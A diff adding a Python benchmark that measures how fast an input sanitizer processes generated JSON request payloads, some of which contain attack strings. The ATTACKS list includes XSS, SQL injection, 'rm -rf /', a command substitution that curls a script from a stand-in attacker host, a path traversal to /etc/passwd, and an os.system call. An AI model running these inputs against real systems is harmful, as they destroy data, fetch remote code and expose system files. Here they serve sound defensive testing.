@@ -0,0 +1,154 @@
+#!/usr/bin/env python3
+"""
+Throughput benchmark for InputSanitizer over realistic JSON payloads.
+
+Generates API-style request bodies (RAG queries, chat messages with nested
+metadata, bulk document uploads) with a configurable share of malicious
+strings, and sanitizes each one with sanitize_json_full.
+
+Compares:
+- per-pattern: every dangerous pattern runs findall + sub on every string
+  (the scan the sanitizer used before the single-pass prefilter)
+- single-pass: one anchor-literal scan per string selects the patterns to
+  run, verdict cache disabled
+- single-pass + cache: as above with the verdict cache for short strings
+
+Usage:
+    python tests/performance/benchmark_input_sanitizer.py --payloads 2000 --malicious 0.05
+"""
+
+import argparse
+import html
+import json
+import logging
+import os
+import random
+import sys
+import time
+
+# Add src to path
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "..", "src"))
+
+from grid.security.input_sanitizer import InputSanitizer, SanitizationConfig, SanitizationResult
+
+WORDS = (
+    "the grid index returns relevant chunks for each query and the reranker orders them by score "
+    "users ask about embeddings vectors retrieval latency configuration deployment and billing"
+).split()
+
+ATTACKS = [
+    "<script>alert(document.cookie)</script>",
+    "1' OR '1'='1",
+    "1 UNION SELECT username, password FROM users",
+    "; rm -rf / ",
+    "$(curl http://evil.example/x.sh)",
+    "../../../../etc/passwd",
+    "__import__('os').system('id')",
+    '<img src=x onerror="alert(1)">',
+]
+
+
+class PerPatternSanitizer(InputSanitizer):
+    """Runs every pattern over every string, without the prefilter or cache."""
+
+    def sanitize_text_full(self, text):
+        text = str(text)
+        original_length = len(text)
+        threats = []
+        for compiled_pattern, threat_type, severity in self._compiled_patterns:
+            matches = compiled_pattern.findall(text)
+            if matches:
+                threats.append({"type": threat_type.value, "severity": severity.value, "match_count": len(matches)})
+                text = compiled_pattern.sub("", text)
+        text = html.escape(text, quote=True)
+        return SanitizationResult(
+            original_length=original_length,
+            sanitized_length=len(text),
+            sanitized_content=text,
+            threats_detected=threats,
+        )
+
+
+def _sentence(rng: random.Random, words: int, malicious: float) -> str:
+    text = " ".join(rng.choice(WORDS) for _ in range(words)).capitalize() + "."
+    if rng.random() < malicious:
+        text += " " + rng.choice(ATTACKS)
+    return text
+
+
+def _payloads(count: int, malicious: float, seed: int = 0) -> list[dict]:
+    rng = random.Random(seed)
+    payloads = []
+    for i in range(count):
+        kind = i % 3
+        if kind == 0:
+            payloads.append(
+                {
+                    "query": _sentence(rng, rng.randint(5, 20), malicious),
+                    "top_k": 10,
+                    "mode": rng.choice(["hybrid", "dense", "sparse"]),
+                    "filters": {"language": "python", "repo": "grid"},
+                }
+            )
+        elif kind == 1:
+            payloads.append(
+                {
+                    "session_id": f"session-{rng.randrange(1000)}",
+                    "messages": [
+                        {
+                            "role": rng.choice(["user", "assistant"]),
+                            "content": _sentence(rng, rng.randint(10, 60), malicious),
+                        }
+                        for _ in range(rng.randint(2, 8))
+                    ],
+                    "metadata": {"client": "web", "locale": "en-US", "tags": ["chat", "support"]},
+                }
+            )
+        else:
+            payloads.append(
+                {
+                    "documents": [
+                        {
+                            "path": f"docs/section_{rng.randrange(50)}.md",
+                            "text": " ".join(_sentence(rng, 20, malicious) for _ in range(rng.randint(3, 10))),
+                            "metadata": {"source": "upload", "version": rng.randint(1, 5)},
+                        }
+                        for _ in range(rng.randint(1, 5))
+                    ]
+                }
+            )
+    return payloads
+
+
+def _run(name: str, sanitizer: InputSanitizer, payloads: list[dict], total_bytes: int) -> None:
+    threats = 0
+    start = time.perf_counter()
+    for payload in payloads:
+        threats += len(sanitizer.sanitize_json_full(payload).threats_detected)
+    elapsed = time.perf_counter() - start
+    print(
+        f"{name:<20} {len(payloads) / elapsed:10.0f} payloads/s   {total_bytes / elapsed / 1e6:8.2f} MB/s   "
+        f"threats {threats}"
+    )
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--payloads", type=int, default=2000)
+    parser.add_argument("--malicious", type=float, default=0.05, help="share of strings carrying an attack")
+    args = parser.parse_args()
+
+    logging.disable(logging.WARNING)
+    payloads = _payloads(args.payloads, args.malicious)
+    total_bytes = sum(len(json.dumps(p)) for p in payloads)
+
+    print(f"{args.payloads} payloads, {total_bytes / 1e6:.2f} MB, {args.malicious:.0%} malicious strings")
+    print(f"{'=' * 60}")
+
+    _run("per-pattern", PerPatternSanitizer(SanitizationConfig(verdict_cache_size=0)), payloads, total_bytes)
+    _run("single-pass", InputSanitizer(SanitizationConfig(verdict_cache_size=0)), payloads, total_bytes)
+    _run("single-pass + cache", InputSanitizer(), payloads, total_bytes)
+
+
+if __name__ == "__main__":
+    main()